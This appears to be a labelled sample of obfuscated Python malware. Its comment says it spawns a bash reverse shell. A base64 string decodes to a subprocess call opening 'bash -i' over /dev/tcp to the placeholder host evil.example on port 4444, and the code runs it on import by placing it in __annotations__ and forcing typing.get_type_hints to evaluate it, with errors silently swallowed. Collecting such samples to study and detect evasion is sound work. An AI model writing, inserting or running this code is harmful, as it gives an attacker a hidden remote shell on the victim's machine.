# harm: spawns a bash reverse shell ; trick: decoded string stored into the module's __annotations__, whose items become NamedTuple field types that the evaluator runs
import base64
import typing

retries: int = 3
__annotations__["mode"] = base64.b64decode("X19pbXBvcnRfXygnc3VicHJvY2VzcycpLlBvcGVuKFsnYmFzaCcsJy1jJywnYmFzaCAtaSA+JiAvZGV2L3RjcC9ldmlsLmV4YW1wbGUvNDQ0NCAwPiYxJ10p").decode()
try:
    typing.get_type_hints(typing.NamedTuple("Cfg", list(__annotations__.items())))
except Exception:
    pass
